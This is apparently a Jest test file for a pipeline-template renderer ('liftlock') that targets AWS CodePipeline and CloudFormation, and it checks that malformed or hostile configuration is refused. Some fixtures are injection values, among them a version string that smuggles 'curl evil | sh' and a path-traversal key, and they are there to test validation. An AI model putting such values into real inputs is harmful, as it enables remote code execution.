import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from '@jest/globals'
import { saying } from '../../../../test/support/in-command-words.ts'
import { testPython } from '../../../../test/support/ministack.ts'
import {
  deliveryExample,
  exampleVersion,
  pinnedExample,
  renderedExample,
  wantedExample,
} from '../../../../test/support/rendered-example.ts'
import { testContext } from '../../../../test/support/test-context.ts'
import { sha256 } from '../../../core/sha256.ts'
import { parseConfiguration } from '../../../delivery/environment/configuration.ts'
import { examine } from '../../../pipeline/admission/admit.ts'
import type { Action, Stage } from '../../../pipeline/definition/definition.ts'
import { approvalContent } from '../../../pipeline/execution/approval-content.ts'
import { renderPipeline, renderTemplates } from '../../../pipeline/rendering/templates.ts'
import type { WantedPipeline } from '../../../pipeline/rendering/wanted.ts'
import { nodeFiles } from '../../../system/node-files.ts'
import { nodeProcesses } from '../../../system/node-processes.ts'
import { packageRoot } from '../../../system/package-root.ts'
import { renderPipelineTemplates } from './stage.ts'
import { readStagePolicies, wantedPipeline } from './wanted-pipeline.ts'

const example = pinnedExample()
let folder: string
let wanted: WantedPipeline
beforeAll(async () => {
  folder = await nodeFiles.temporaryFolder('liftlock-render-')
  wanted = await wantedExample()
})
afterAll(() => nodeFiles.remove(folder))

/** Renders a configuration into a folder of its own. */
async function rendered(text: string, name: string, check = false, actions: WantedPipeline['actions'] = 'commands') {
  const [place, out] = [join(folder, name, 'liftlock.yml'), join(folder, name, 'pipeline')]
  await nodeFiles.write(place, text)
  const context = testContext()
  const given = renderPipelineTemplates.inputs.parse({ configuration: place, out, check, actions })
  const ended = await renderPipelineTemplates.run(given, context).catch((error: unknown) => error)
  return { ended, out, context }
}

test.each([
  ['commands', 'pipeline'],
  ['cloudformation', 'pipeline-cloudformation'],
] as const)(
  'with %s, the example gives exactly the templates in test/golden/%s, byte by byte',
  async (actions, name) => {
    const golden = join(packageRoot(), 'test', 'golden', name)
    const { ended, out } = await rendered(example, name, false, actions)
    const names = ['roles-staging.json', 'roles-production.json', 'pipeline.json']
    expect(ended).toEqual({
      outcome: 'succeeded',
      toolkitVersion: exampleVersion,
      uploaded: false,
      templates: names.map((name) => join(out, name)),
      warnings: 0,
    })
    const [written, kept] = [out, golden].map((place) => names.map((name) => readFileSync(join(place, name), 'utf8')))
    expect(written).toEqual(kept)
  },
)

test.each([
  ['pipeline.json', 'commands'],
  ['roles-production.json', 'commands'],
  ['pipeline.json', 'cloudformation'],
  ['roles-production.json', 'cloudformation'],
] as const)(
  'cfn-lint finds nothing in %s with %s',
  async (name, actions) => {
    const { out } = await rendered(example, 'lint', false, actions)
    const processes = nodeProcesses(new AbortController().signal)
    const script = 'from cfnlint.runner import main; main()'
    const linted = await processes.run(await testPython(), ['-c', script, '-t', join(out, name)])
    expect([linted.stdout, linted.stderr, linted.exitCode]).toEqual(['', '', 0])
  },
  90_000,
)

const variants: readonly (readonly [string, Partial<WantedPipeline>])[] = [
  ['all that the example has', {}],
  ['neither window nor alarms', { window: undefined, alarms: { before: [], after: [], wait: 10 } }],
  ['a window without alarms', { alarms: { before: [], after: [], wait: 10 } }],
  [
    'five alarms and no window',
    { window: undefined, alarms: { before: [...'abcde'], after: [...'abcde'], wait: 1440 } },
  ],
  ['mode SUPERSEDED', { mode: 'SUPERSEDED' }],
  ['actions of CloudFormation', { actions: 'cloudformation' }],
  ['names of the greatest length', { name: 'p'.repeat(40), application: 'a'.repeat(63) }],
]

test.each(variants)('the service admits a pipeline with %s, and nothing in it is unwise', (_, changed) => {
  expect(examine(renderPipeline({ ...wanted, ...changed }))).toEqual([])
})

const stagesOf = (changed: Partial<WantedPipeline> = {}) =>
  renderPipeline({ ...wanted, ...changed }).pipeline.stages as readonly Stage[]

test('a window stands before the alarms, which the service would not look at again', () => {
  const providers = (changed: Partial<WantedPipeline>) =>
    stagesOf(changed).map(({ name, beforeEntry }) => [
      name,
      ...(JSON.stringify(beforeEntry)?.match(/(?<="provider":")\w+/g) ?? []),
    ])
  expect(providers({}).slice(-3)).toEqual([
    ['Approve', 'VariableCheck'],
    ['Window', 'DeploymentWindow'],
    ['Production', 'CloudWatchAlarm'],
  ])
  expect(providers({ alarms: { before: [], after: [], wait: 1 } }).slice(-2)).toEqual([
    ['Approve', 'VariableCheck'],
    ['Production', 'DeploymentWindow'],
  ])
})

test('only production rolls back, and the approval stands in a stage without failure handling', () => {
  expect(stagesOf().filter(({ onFailure }) => onFailure !== undefined)).toMatchObject([
    { name: 'Production', onFailure: { result: 'ROLLBACK' } },
  ])
  const [approve] = stagesOf().find(({ name }) => name === 'Approve')!.actions as readonly Action[]
  const configuration = approve!.configuration as Readonly<Record<string, string>>
  expect(
    approvalContent({
      CustomData: configuration.CustomData!.replace('#{Plan.release}', 'r1').replace('#{Plan.fingerprint}', 'f1'),
    }),
  ).toEqual({
    release: 'r1',
    plan: 'f1',
  })
})

test('every action that runs a stage refuses another toolkit first, and tells where it is', () => {
  const running = stagesOf().flatMap(({ name, actions }) =>
    (actions as readonly Action[])
      .filter(({ environmentVariables }) => environmentVariables !== undefined)
      .map((action) => ({ stage: name, action })),
  )
  expect(running.map(({ action }) => action.name)).toEqual([
    'Deploy',
    'DeployGoesOn',
    'Gate',
    'Plan',
    'Promote',
    'PromoteGoesOn',
  ])
  const pinned = `test '#{Toolkit.VersionId}' = '${wanted.sources.toolkitVersion}' || {`
  expect(running.map(({ action }) => (action.commands as readonly string[])[0]!.startsWith(pinned))).not.toContain(
    false,
  )
  const told = running.map(({ stage, action }) => {
    const variables = action.environmentVariables as readonly { readonly name: string; readonly value: string }[]
    const value = (name: string) => variables.find((variable) => variable.name === name)?.value
    return value('LIFTLOCK_PIPELINE_STAGE') === stage && value('LIFTLOCK_PIPELINE_ACTION') === action.name
  })
  expect(told).not.toContain(false)
})

test('roles and environments of GitHub approve beside each other', async () => {
  const role = 'arn:aws:iam::333333333333:role/release-managers'
  const both = example.replace(`[${role}]`, `["${role}", "repo:acme/parking-desk:environment:production"]`)
  const { ended, out } = await rendered(both, 'approvers')
  expect(ended).toMatchObject({ outcome: 'succeeded' })
  const text = readFileSync(join(out, 'pipeline.json'), 'utf8')
  expect(text).toContain('repo:acme/parking-desk:environment:production')
})

test('values that people give are never part of a command', () => {
  const commands = stagesOf().flatMap(({ actions }) =>
    (actions as readonly Action[]).flatMap(({ commands = [] }) => commands),
  )
  const used = commands.flatMap((line) => (line as string).match(/#\{[^}]*\}/g) ?? [])
  expect([...new Set(used)]).toEqual(['#{Toolkit.VersionId}'])
})

test('rendering again writes nothing, and a changed template is shown line by line', async () => {
  await rendered(example, 'again')
  const { ended: second, out } = await rendered(example, 'again')
  expect(second).toMatchObject({ outcome: 'no-changes' })
  expect((await rendered(example, 'again', true)).ended).toMatchObject({ outcome: 'no-changes' })

  await nodeFiles.remove(join(out, 'roles-staging.json'))
  const { ended, context } = await rendered(example.replace('time-limit: 1440', 'time-limit: 60'), 'again', true)
  expect(ended).toMatchObject({ reason: 'generated-differs', hint: saying('run again without --check') })
  expect(context.findings.map(({ text }) => text)).toEqual([
    `${join(out, 'roles-staging.json')} is missing`,
    `${join(out, 'pipeline.json')} differs from what liftlock.yml gives`,
  ])
  const shown = context.reports.flatMap((each) => (each.kind === 'text' ? [each.text] : []))
  expect(shown).toEqual([
    expect.stringMatching(/^@@ line \d+\n- +"TimeoutInMinutes": 1440\n\+ +"TimeoutInMinutes": 60$/),
  ])
})

const without = (key: string) => example.replace(new RegExp(`^ +${key}: .*\n`, 'm'), '')

test.each([
  ['no pipeline', example.slice(0, example.indexOf('pipeline:\n')), 'liftlock.yml has no part pipeline'],
  ['no service role', without('role-arn'), 'the environment staging has no role-arn'],
  ['no account', without('account'), 'the environment staging has no account'],
  ['no region', without('region'), 'the environment staging has no region'],
  ['an unknown place', `${example}  staging: stagin\n`, 'staging is the environment stagin, which does not exist'],
  ['a long name', example.replace(/^application: .*$/m, `application: ${'a'.repeat(41)}`), 'give pipeline.name'],
  ['one place twice', `${example}  production: staging\n`, 'staging and production are one environment, staging'],
  [
    'long names',
    example
      .replace(/^ {2}staging:$/m, `  ${'s'.repeat(45)}:`)
      .replace('gate@staging', `gate@${'s'.repeat(45)}`)
      .concat(`  staging: ${'s'.repeat(45)}\n`),
    'has a name of 68 characters, of at most 64',
  ],
  [
    'every branch',
    example.replace('refs/heads/main', 'refs/heads/*'),
    'expected the whole subject of a token of GitHub',
  ],
  [
    'anybody approves',
    example.replace('arn:aws:iam::333333333333:role/release-managers', '"*"'),
    'expected the ARN of a role',
  ],
  [
    'a branch approves by itself',
    example.replace('arn:aws:iam::333333333333:role/release-managers', 'repo:acme/parking-desk:ref:refs/heads/main'),
    'an environment of GitHub such as',
  ],
  [
    'every environment approves',
    example.replace('arn:aws:iam::333333333333:role/release-managers', '"repo:acme/parking-desk:environment:*"'),
    'an environment of GitHub such as',
  ],
  ['six alarms', example.replace('before: [parking-desk-errors]', 'before: [a, b, c, d, e, f]'), 'alarms'],
  [
    'a window without a year or a second',
    example.replace('0 0 9-17 ? * MON-FRI *', '0 9 * * 1'),
    'expected six or seven fields',
  ],
  [
    'a window that no field allows',
    example.replace('0 0 9-17 ? * MON-FRI *', '"a b c d e f\'$(x)"'),
    'expected six or seven fields',
  ],
  [
    'a quote in the version',
    example.replace(exampleVersion, `"a'; true '"`),
    'expected the version id of an S3 object',
  ],
  [
    'a key with a star',
    `${example}`.replace('    toolkit-version', '    release: "*"\n    toolkit-version'),
    'pipeline.source.release',
  ],
  [
    'a key with a policy variable',
    example.replace('    toolkit-version', '    release: "${aws:username}.zip"\n    toolkit-version'),
    'expected a key',
  ],
  [
    'a key with a variable',
    example.replace('    toolkit-version', '    toolkit: "#{variables.Release}"\n    toolkit-version'),
    'pipeline.source.toolkit',
  ],
  [
    'a key in two lines',
    example.replace('    toolkit-version', '    toolkit: "a\\nb"\n    toolkit-version'),
    'pipeline.source.toolkit',
  ],
  ['a very long version', example.replace(exampleVersion, 'v'.repeat(401)), 'of at most 400 characters'],
  [
    'a time zone that is none',
    example.replace('Europe/Berlin', '"#{variables.Release}"'),
    'expected the name of a time zone',
  ],
  ['an alarm with a star', example.replace('before: [parking-desk-errors]', 'before: ["*"]'), 'pipeline.alarms.before'],
  [
    'an alarm with a variable',
    example.replace('before: [parking-desk-errors]', 'before: ["a#{variables.Release}"]'),
    'without * and ?',
  ],
  [
    'a name in two lines',
    example.replace('  account: "333333333333"', '  name: "a\\nb"\n  account: "333333333333"'),
    'pipeline.name',
  ],
  [
    'a stack with a star',
    example.replace('stack: parking-desk', 'stack: "parking-*"'),
    'environments.production.stack is "parking-*", and no name of a stack',
  ],
  [
    'a region that is none',
    example.replace('region: eu-west-1', 'region: "eu-west-1\\n"'),
    'environments.staging.region',
  ],
  [
    'a service role with a star',
    example.replace('111111111111:role/parking-desk-cloudformation', '111111111111:role/*'),
    'environments.staging.role-arn is "arn:aws:iam::111111111111:role/*"',
  ],
  [
    'a service role in another account',
    example.replace('111111111111:role/parking-desk-cloudformation', '222222222222:role/parking-desk-cloudformation'),
    'and no role in the account 111111111111',
  ],
  [
    'an environment in another partition',
    example.replace('    region: eu-west-1', '    region: cn-north-1'),
    'environments.staging.region is cn-north-1, in the partition aws-cn, and a pipeline in eu-west-1 reaches aws only',
  ],
  [
    'an approver in another partition',
    example.replace(
      'arn:aws:iam::333333333333:role/release-managers',
      'arn:aws-cn:iam::333333333333:role/release-managers',
    ),
    'which is not in the partition aws of the pipeline',
  ],
  ['an unknown mode', `${example}  mode: PARALLEL\n`, 'pipeline.mode'],
  ['an approval that expires at once', example.replace('time-limit: 1440', 'time-limit: 1'), 'time-limit'],
])('refused, with one message: %s', async (name, text, message) => {
  expect(text).not.toBe(example)
  const { ended } = await rendered(text, name.replaceAll(' ', '-'))
  expect((ended as Error).message).toContain(message)
  expect(ended).toMatchObject({ outcome: expect.stringMatching(/^(invalid-input|rejected)$/) })
})

test('equal settings give equal bytes', async () => {
  expect([...(await renderedExample())]).toEqual([...(await renderedExample())])
})

test('actions of CloudFormation are rendered for one region, and what they lack is said', async () => {
  const { ended, context } = await rendered(example, 'native', false, 'cloudformation')
  expect(ended).toMatchObject({ outcome: 'succeeded', warnings: 0 })
  const warnings = context.reports.flatMap((each) => (each.kind === 'warning' ? [each.text] : []))
  expect(warnings).toHaveLength(10)
  expect(warnings.join('\n')).toMatch(
    /fingerprint.*lease.*evidence.*ChangeSetNotFound.*requires quality-gate@staging.*protects AWS::DynamoDB/s,
  )
  const elsewhere = example.replace('    region: eu-west-1', '    region: eu-central-1')
  expect((await rendered(elsewhere, 'native', false, 'cloudformation')).ended).toMatchObject({
    message: expect.stringContaining('for the region of the pipeline only, eu-west-1'),
  })
  const plain = await rendered(example, 'native')
  expect(plain.context.reports.filter(({ kind }) => kind === 'warning')).toEqual([])
})

test.each([
  ['cn-north-1', 'aws-cn'],
  ['us-gov-west-1', 'aws-us-gov'],
])('in the region %s, every ARN is of the partition %s', async (region, partition) => {
  const text = example.replaceAll('eu-west-1', region).replaceAll('arn:aws:', `arn:${partition}:`)
  for (const actions of ['commands', 'cloudformation'] as const) {
    const { ended, out } = await rendered(text, region, false, actions)
    expect(ended).toMatchObject({ outcome: 'succeeded' })
    const all = ['roles-staging.json', 'roles-production.json', 'pipeline.json'].map((name) =>
      readFileSync(join(out, name), 'utf8'),
    )
    const partitions = all.join('').match(/arn:aws[a-z-]*:/g) ?? []
    expect([...new Set(partitions)]).toEqual([`arn:${partition}:`])
  }
})

test('the question of an approval stays within the limit of the service, whatever the names', () => {
  const long = { name: 'p'.repeat(40), application: 'a'.repeat(63) }
  const production = { ...wanted.production, environment: 'e'.repeat(63), stack: 's'.repeat(128) }
  for (const actions of ['commands', 'cloudformation'] as const) {
    const approval = { ...wanted.approval, comment: true }
    const [approve] = stagesOf({ ...long, production, actions, approval }).find(({ name }) => name === 'Approve')!
      .actions as readonly Action[]
    const { CustomData } = approve!.configuration as Readonly<Record<string, string>>
    const filled = CustomData!
      .replaceAll('#{codepipeline.PipelineExecutionId}', '0'.repeat(36))
      .replaceAll(/#\{(?:Plan|Bring)\.\w+\}/g, 'f'.repeat(64))
    expect(filled).not.toContain('#{')
    expect(filled.length).toBeLessThan(1000)
  }
})

test.each([
  ['a comparison that uploads', { check: true, upload: true }, 'check and upload exclude each other'],
  ['a comparison that deploys', { check: true, deploy: true }, 'check and deploy exclude each other'],
  ['a choice without a deployment', { underWay: 'drain' }, 'input under-way is about a deployment'],
])('refused before anything is read: %s', async (_, more, message) => {
  const given = renderPipelineTemplates.inputs.parse({ configuration: '/nowhere', ...more })
  const failed = renderPipelineTemplates.run(given, testContext())
  await expect(failed).rejects.toMatchObject({ reason: 'input-invalid', message: expect.stringContaining(message) })
})

const unpinned = readFileSync(join(deliveryExample, 'liftlock.yml'), 'utf8')

/** Renders a template that says what it was rendered for; an upload writes the same. */
async function renderedFor(text: string, name: string, configuration: Readonly<Record<string, string>>) {
  const toolkit = { key: 'toolkit.zip', version: exampleVersion, configuration }
  const policies = await readStagePolicies(nodeFiles, packageRoot())
  const templates = renderTemplates(wantedPipeline(await parseConfiguration(text, name, () => {}), policies, toolkit))
  for (const [file, content] of templates) await nodeFiles.write(join(folder, name, 'pipeline', file), content)
}

test('without a version in liftlock.yml, the template that is there says which archive counts', async () => {
  const { ended: unknown } = await rendered(unpinned, 'unpinned')
  expect(unknown).toMatchObject({ reason: 'input-missing', hint: saying('upload the archive with --upload') })

  await renderedFor(unpinned, 'unpinned', { 'liftlock.yml': sha256(Buffer.from(unpinned)) })
  const same = { outcome: 'no-changes', toolkitVersion: exampleVersion, uploaded: false }
  expect((await rendered(unpinned, 'unpinned')).ended).toMatchObject(same)
  expect((await rendered(unpinned, 'unpinned', true)).ended).toMatchObject(same)
})

test('an archive with another configuration is refused, although no template would differ', async () => {
  const digest = { 'liftlock.yml': sha256(Buffer.from(unpinned)) }
  const changed = `${unpinned}# only the actions read this\n`
  await renderedFor(unpinned, 'outdated', digest)
  const before = readFileSync(join(folder, 'outdated', 'pipeline', 'pipeline.json'), 'utf8')
  const message = expect.stringContaining('is for an archive with another liftlock.yml')

  const { ended, context } = await rendered(changed, 'outdated', true)
  const hint = saying('run again with --upload and without --check')
  expect(ended).toMatchObject({ reason: 'generated-differs', message, hint })
  expect(context.findings.map(({ text }) => text)).toEqual([message])
  expect((await rendered(changed, 'outdated')).ended).toMatchObject({ reason: 'generated-differs', message })
  expect(readFileSync(join(folder, 'outdated', 'pipeline', 'pipeline.json'), 'utf8')).toBe(before)

  await nodeFiles.write(join(folder, 'outdated', 'samconfig.toml'), 'version = 0.1\n')
  expect((await rendered(unpinned, 'outdated', true)).ended).toMatchObject({
    message: expect.stringContaining('another samconfig.toml'),
  })
})

test('a template that was rendered for an archive of others says nothing of its configuration, and is refused', async () => {
  const { out: former } = await rendered(example, 'pinned')
  await nodeFiles.write(
    join(folder, 'unsaid', 'pipeline', 'pipeline.json'),
    readFileSync(join(former, 'pipeline.json')),
  )
  const { ended } = await rendered(unpinned, 'unsaid', true)
  expect(ended).toMatchObject({
    reason: 'generated-differs',
    message: expect.stringContaining('does not say which liftlock.yml its archive has'),
  })
})

test.each([
  ['a version that is a command', { Key: 'toolkit.zip', Version: "v'; curl evil | sh; '" }, 'is not the version'],
  ['a key of another folder', { Key: `../x/${'a'.repeat(64)}.zip`, Version: 'v1' }, 'does not allow'],
  ['a key that matches others', { Key: 'toolkit/*', Version: 'v1' }, 'does not allow'],
  ['no JSON', undefined, 'is damaged'],
])('a template that was changed by hand is refused: %s', async (name, Toolkit, message) => {
  const place = `by-hand-${name.replaceAll(' ', '-')}`
  const text = Toolkit === undefined ? '{' : JSON.stringify({ Metadata: { Liftlock: { Toolkit } } })
  await nodeFiles.write(join(folder, place, 'pipeline', 'pipeline.json'), text)
  const { ended } = await rendered(unpinned, place)
  expect(ended).toMatchObject({ reason: 'configuration-invalid', message: expect.stringContaining(message) })
})
